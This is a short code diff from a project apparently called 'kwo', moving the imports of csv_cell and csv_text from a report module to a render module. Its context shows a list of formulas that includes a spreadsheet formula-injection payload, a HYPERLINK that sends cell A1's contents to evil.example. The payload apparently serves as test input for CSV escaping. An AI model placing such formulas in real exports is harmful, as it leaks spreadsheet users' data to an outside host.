@@ -21,7 +21,7 @@ from kwo.engine.duckdb import connect
 from kwo.errors import UsageError
 from kwo.ingest import ingest
 from kwo.metrics import build_report
-from kwo.report.tables import csv_cell, csv_text
+from kwo.render.tables import csv_cell, csv_text
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
